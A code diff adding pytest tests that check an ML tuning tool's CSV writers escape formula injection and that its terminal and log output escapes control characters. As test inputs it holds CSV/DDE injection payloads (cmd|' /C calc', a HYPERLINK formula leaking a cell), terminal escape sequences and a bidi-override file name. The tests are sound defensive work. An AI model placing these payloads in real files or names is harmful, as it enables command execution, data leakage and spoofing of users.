@@ -3,12 +3,17 @@
 Images (generated here) are either decoded as upright RGB by ``load_rgb_image`` or raise, and
 ``RobustImageFolder`` turns a raise into ``None`` (a counted skip). Competition JSON, search specs
 and checkpoints end in their module's error naming the key (or a counted skip); SSRF targets are
-refused before any socket connects.
+refused before any socket connects. Untrusted names (files, classes, runs, params) reach CSV files
+with a formula escaped and the terminal with control characters escaped.
 """
 
 from __future__ import annotations
 
+import csv
+import io
 import json
+import logging
+import sys
 from pathlib import Path
 from typing import Any, Callable
 
@@ -29,11 +34,22 @@ from tests.tuner.datasets.loopback_server import (
     photo,
     png_rgba,
 )
-from trainables.checkpoint import CheckpointError, load_checkpoint
+from trainables import csvsafe
+from trainables.artifacts import write_tables
+from trainables.cache import cache_paths, find_cache
+from trainables.checkpoint import CheckpointError, load_checkpoint, save_checkpoint
+from trainables.config import TrialConfig
 from trainables.data import RobustImageFolder, collate_skipping_bad, load_rgb_image
+from trainables.engine import EvalStats
+from trainables.models import build_model
+from tuner.cli import main
 from tuner.datasets.competition import CompetitionDataError, load_competition_json
 from tuner.datasets.netguard import BlockedURL, check_url
+from tuner.lastmile.predict import write_csv_atomically
+from tuner.lastmile.score import score_submission
 from tuner.spec import SpecError, load_spec, parse_spec
+from tuner.terminal import EscapingFormatter, printable, printable_lines
+from tuner.tracking.leaderboard import Board, Entry, render
 
 # --------------------------------------------------------------------------------------------
 # Images: (file name, bytes factory, expected). Expected is ("rgb", (width, height)) or
@@ -460,3 +476,253 @@ def test_predict_refuses_incomplete_checkpoint(case: str, tmp_path: Path) -> Non
     torch.save(INCOMPLETE_CHECKPOINTS[case], checkpoint)
     with pytest.raises(UserError, match=str(checkpoint)):
         predict(str(checkpoint), images, tmp_path / "out.csv", progress=False)
+
+
+# --------------------------------------------------------------------------------------------
+# Untrusted text in what the product writes: a file name, class name, run name or MLflow param that
+# starts a formula (CSV injection) or holds terminal control codes (ESC, C1, BEL, a newline).
+
+# Cells a spreadsheet would evaluate (OWASP's triggers: = + - @ tab CR), DDE payloads included.
+FORMULAS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0",
+            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+
+
+def _cells(text: str) -> list[str]:
+    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+
+
+def _read(path: Path) -> str:
+    with open(path, newline="") as handle:  # as csv reads it: a "\r" inside a cell stays one
+        return handle.read()
+
+
+def _assert_escaped(cells: list[str], hostile: list[str]) -> None:
+    for value in hostile:
+        assert value not in cells, f"{value!r} written raw"
+        assert "'" + value in cells, f"{value!r} not written as '{value!r}"
+
+
+def _leaderboard_csv(tmp_path: Path) -> tuple[str, list[str]]:
+    param = FORMULAS[0]
+    entry = Entry(rank=1, trial=FORMULAS[1], run_id="abc", name=FORMULAS[2], status=FORMULAS[3],
+                  best=-0.5, val_acc=0.25, val_loss=-1e-3, epochs=2,
+                  params={param: FORMULAS[4], "lr": "-0.5"})
+    board = Board("s", "1", "val_acc", "max", [param, "lr"], [entry])
+    return render(board, "csv"), FORMULAS[:5]
+
+
+def _submission_csv(tmp_path: Path) -> tuple[str, list[str]]:
+    out = tmp_path / "submission.csv"
+    write_csv_atomically(out, [("12", FORMULAS[0]), (FORMULAS[1], "3"), ("-5", FORMULAS[5])])
+    return _read(out), [FORMULAS[0], FORMULAS[1], FORMULAS[5]]
+
+
+def _trial_tables(tmp_path: Path) -> tuple[str, list[str]]:
+    names = FORMULAS[:3]
+    stats = EvalStats(loss=1.0, accuracy=0.5, top5=1.0, images=6, skipped=0, seconds=1.0,
+                      confusion=torch.tensor([[1, 1, 0], [0, 2, 0], [1, 0, 1]]))
+    out = write_tables(tmp_path, config={}, summary={}, class_names=names, stats=stats)
+    return _read(out / "per_class.csv") + _read(out / "confusion.csv"), names
+
+
+CSV_WRITERS: dict[str, Callable[[Path], tuple[str, list[str]]]] = {
+    "leaderboard_csv": _leaderboard_csv,
+    "submission_csv": _submission_csv,
+    "per_class_and_confusion_csv": _trial_tables,
+}
+
+
+@pytest.mark.parametrize("writer", list(CSV_WRITERS))
+def test_csv_writer_escapes_formulas(writer: str, tmp_path: Path) -> None:
+    text, hostile = CSV_WRITERS[writer](tmp_path)
+    cells = _cells(text)
+    _assert_escaped(cells, hostile)
+    # Numbers stay numbers: a negative metric, a negative numeric param or id is no formula.
+    if writer == "leaderboard_csv":
+        assert cells[7] == "'" + FORMULAS[0]  # the param's name, in the header
+        assert cells[11:] == ["1", "'" + FORMULAS[1], "'" + FORMULAS[3], "-0.5", "0.25", "-0.001", "2",
+                              "'" + FORMULAS[4], "-0.5", "abc", "'" + FORMULAS[2]]
+    if writer == "submission_csv":
+        assert cells == ["id", "predicted", "12", "'" + FORMULAS[0], "'" + FORMULAS[1], "3",
+                         "-5", "'" + FORMULAS[5]]
+
+
+def test_score_reads_back_an_escaped_submission(tmp_path: Path) -> None:
+    """The escape is for spreadsheets: `tuner score` compares the names the model predicted."""
+    write_csv_atomically(tmp_path / "sub.csv", [("1", "=cat"), ("2", "-dog"), ("=3", "bird")])
+    (tmp_path / "key.csv").write_text("id,label\n1,=cat\n2,-dog\n=3,bird\n")
+    assert score_submission(tmp_path / "sub.csv", tmp_path / "key.csv") == (1.0, 3)
+
+
+def _tiny_checkpoint(directory: Path, class_names: list[str]) -> Path:
+    config = TrialConfig.from_dict({"train_dir": "train", "val_dir": "val", "image_size": 16, "width": 0.125})
+    model = build_model(config.arch, num_classes=len(class_names), image_size=16, width=0.125)
+    return save_checkpoint(directory, model=model.state_dict(), config=config.to_dict(),
+                           class_to_idx={name: i for i, name in enumerate(class_names)},
+                           normalisation={"mean": [0.5] * 3, "std": [0.25] * 3})
+
+
+def test_predict_names_from_the_folder(tmp_path: Path, capsys, monkeypatch) -> None:
+    """`tuner predict` on a folder of hostile names: ².jpg (a digit int() refuses) is predicted under
+    its name after the numeric ids, a formula id and class are escaped in the CSV, an unreadable file
+    with ESC in its name is a counted skip shown escaped on the terminal."""
+    monkeypatch.chdir(tmp_path)
+    checkpoint = _tiny_checkpoint(tmp_path / "model", ["=1+1"])  # one class: every row predicts it
+    images = tmp_path / "test"
+    images.mkdir()
+    for name in ("1.jpg", "10.jpg", "2.jpg", "².jpg", "=2+5.jpg"):
+        Image.new("RGB", (16, 16), (200, 30, 30)).save(images / name)
+    (images / "\x1b[2Jgone.jpg").write_bytes(b"<html>removed</html>")
+    code = main(["predict", str(checkpoint), "--images", str(images), "--out", "sub.csv", "--quiet"])
+    captured = capsys.readouterr()
+    out = captured.out
+    assert code == 0, captured.err
+    rows = list(csv.reader(io.StringIO(_read(tmp_path / "sub.csv"))))
+    assert rows == [["id", "predicted"], ["1", "'=1+1"], ["2", "'=1+1"], ["10", "'=1+1"],
+                    ["'=2+5", "'=1+1"], ["²", "'=1+1"]]
+    assert "wrote 5 rows" in out and "skipped 1 file(s)" in out
+    assert "\x1b" not in out and "\\x1b[2Jgone" in out
+
+
+def _images_tree(root: Path, classes: dict[str, int]) -> Path:
+    for name, count in classes.items():
+        (root / name).mkdir(parents=True)
+        for i in range(count):
+            Image.new("RGB", (12, 12), (i * 40, 80, 20)).save(root / name / f"{i}.jpg")
+    return root
+
+
+ESC_DIR = "data\x1b]0;owned\x07"  # sets the terminal's title, then rings
+ESC_CLASS = "\x1b[2J\x9b31mred\u202e"  # clears the screen (C0 ESC, C1 CSI), then a bidi override
+
+
+def _cli_split(tmp_path: Path) -> list[str]:
+    root = _images_tree(tmp_path / ESC_DIR, {ESC_CLASS: 1, "plain": 4})
+    return ["data", "split", str(root), "--val-fraction", "0.5"]
+
+
+def _cli_preview(tmp_path: Path) -> list[str]:
+    root = _images_tree(tmp_path / ESC_DIR, {ESC_CLASS: 2, "plain": 2})
+    return ["data", "preview-augment", str(root), "--preset", "none", "--images", "2", "--draws", "1",
+            "--tile", "16", "--out", str(tmp_path / ESC_DIR / "grid.png")]
+
+
+def _cli_missing_images(tmp_path: Path) -> list[str]:
+    return ["predict", "model.pt", "--images", str(tmp_path / ESC_DIR), "--out", "sub.csv"]
+
+
+def _cli_score(tmp_path: Path) -> list[str]:
+    (tmp_path / ESC_DIR).mkdir()
+    (tmp_path / ESC_DIR / "sub.csv").write_text("id,predicted\n1,a\n")
+    (tmp_path / "key.csv").write_text("id,label\n1,a\n")
+    return ["score", str(tmp_path / ESC_DIR / "sub.csv"), "--key", str(tmp_path / "key.csv")]
+
+
+# (argv factory, what must be shown escaped, exit status)
+CLI_NAMES: dict[str, tuple[Callable[[Path], list[str]], list[str], int]] = {
+    "data_split": (_cli_split, ["data\\x1b]0;owned\\x07", "\\x1b[2J\\x9b31mred\\u202e"], 0),
+    "preview_augment": (_cli_preview, ["data\\x1b]0;owned\\x07", "\\x1b[2J\\x9b31mred\\u202e"], 0),
+    "predict_error_line": (_cli_missing_images, ["data\\x1b]0;owned\\x07"], 2),
+    "score": (_cli_score, ["data\\x1b]0;owned\\x07"], 0),
+}
+
+
+@pytest.mark.parametrize("case", list(CLI_NAMES))
+def test_cli_shows_control_characters_escaped(case: str, tmp_path: Path, capsys, monkeypatch) -> None:
+    monkeypatch.chdir(tmp_path)
+    make, shown, status = CLI_NAMES[case]
+    assert main(make(tmp_path)) == status
+    captured = capsys.readouterr()
+    text = captured.out + captured.err
+    for part in shown:
+        assert part in text
+    controls = [c for c in text if not c.isprintable() and c != "\n"]
+    assert controls == [], text
+
+
+def test_leaderboard_table_shows_names_as_text() -> None:
+    # Rich markup in a run name raised MarkupError ("[/]"), or linked ("[link=…]"); ESC reached rich.
+    entry = Entry(rank=1, trial="[/]", run_id="r", name="n", status="\x1b[2Jdone", best=0.5, val_acc=0.5,
+                  val_loss=1.0, epochs=1, params={"arch": "[link=http://x.example]resnet18"})
+    text = render(Board("s[/]", "1", "val_acc", "max", ["arch"], [entry]), "table")
+    for part in ("search s[/]:", "│ [/] ", "\\x1b[2Jdone", "[link=http://x.example]resnet18"):
+        assert part in text
+    assert [c for c in text if not c.isprintable() and c != "\n"] == []
+
+
+# (cell value, what is written): only text a spreadsheet would run is escaped.
+CSV_CELLS: dict[str, tuple[Any, Any]] = {
+    "equals": ("=1+1", "'=1+1"),
+    "plus": ("+A1", "'+A1"),
+    "minus_dde": ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
+    "at": ("@SUM(A1)", "'@SUM(A1)"),
+    "tab": ("\t=1", "'\t=1"),
+    "carriage_return": ("\r=1", "'\r=1"),
+    "lone_minus": ("-", "'-"),
+    "number_then_formula": ("-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"),
+    "number_then_newline": ("-1\n=2", "'-1\n=2"),
+    "superscript_is_no_number": ("-²", "'-²"),
+    "negative_float": (-0.5, -0.5),
+    "negative_int": (-5, -5),
+    "negative_number_text": ("-0.5", "-0.5"),
+    "exponent_text": ("-1e-3", "-1e-3"),
+    "signed_number_text": ("+5", "+5"),
+    "plain_name": ("resnet18", "resnet18"),
+    "equals_inside": ("a=b", "a=b"),
+    "quoted_text": ("'hello", "'hello"),
+    "quoted_formula": ("'=1", "''=1"),  # one more quote: read back, it is "'=1" again
+    "empty": ("", ""),
+    "none": (None, None),
+}
+
+
+@pytest.mark.parametrize("case", list(CSV_CELLS))
+def test_csv_cell(case: str) -> None:
+    value, written = CSV_CELLS[case]
+    assert csvsafe.cell(value) == written and type(csvsafe.cell(value)) is type(written)
+    if isinstance(value, str):
+        assert csvsafe.unescape(written) == value
+
+
+# (name, what the terminal shows): control characters escaped, printable text as it is.
+TERMINAL_TEXT: dict[str, tuple[str, str]] = {
+    "csi_clear_screen": ("\x1b[2J", "\\x1b[2J"),
+    "osc_window_title": ("\x1b]0;owned\x07", "\\x1b]0;owned\\x07"),
+    "c1_csi": ("\x9b31m", "\\x9b31m"),
+    "delete": ("a\x7fb", "a\\x7fb"),
+    "newline_cr_tab": ("a\nb\rc\td", "a\\nb\\rc\\td"),
+    "bidi_override": ("cat\u202egpj.exe", "cat\\u202egpj.exe"),
+    "line_separator": ("a\u2028b", "a\\u2028b"),
+    "undecodable_byte": ("a\udcffb", "a\\udcffb"),  # os.fsdecode(b"a\xffb"): print() would raise
+    "non_ascii_kept": ("².jpg é 猫", "².jpg é 猫"),
+    "backslash_kept": ("C:\\x1b", "C:\\x1b"),
+}
+
+
+@pytest.mark.parametrize("case", list(TERMINAL_TEXT))
+def test_terminal_text(case: str) -> None:
+    name, shown = TERMINAL_TEXT[case]
+    assert printable(name) == shown
+    if "\n" not in name:  # a multi-line message keeps its line breaks, escapes all else
+        assert printable_lines(f"one {name}\ntwo") == f"one {shown}\ntwo"
+
+
+def test_log_lines_are_escaped_too() -> None:
+    try:
+        raise OSError("cannot open \x1b[2Jx.jpg")
+    except OSError:
+        record = logging.LogRecord("tuner", logging.WARNING, __file__, 1, "skipping %s", ("\x1b]0;t\x07",),
+                                   sys.exc_info())
+    line = EscapingFormatter("%(levelname)s %(message)s").format(record)
+    assert line.startswith("WARNING skipping \\x1b]0;t\\x07\nTraceback") and "\\x1b[2Jx.jpg" in line
+    assert [c for c in line if not c.isprintable() and c != "\n"] == []
+
+
+def test_a_cache_manifest_named_with_a_non_ascii_digit_is_ignored(tmp_path: Path) -> None:
+    # The same int()-of-isdigit() bug as `².jpg` in predict: every trial's data loading raised.
+    (tmp_path / "train" / "cls").mkdir(parents=True)
+    Image.new("RGB", (8, 8)).save(tmp_path / "train" / "cls" / "1.jpg")
+    directory = cache_paths(tmp_path / "train", 32).directory
+    directory.mkdir()
+    (directory / "train_².parquet").write_bytes(b"")
+    assert find_cache(str(tmp_path / "train"), 32) is None
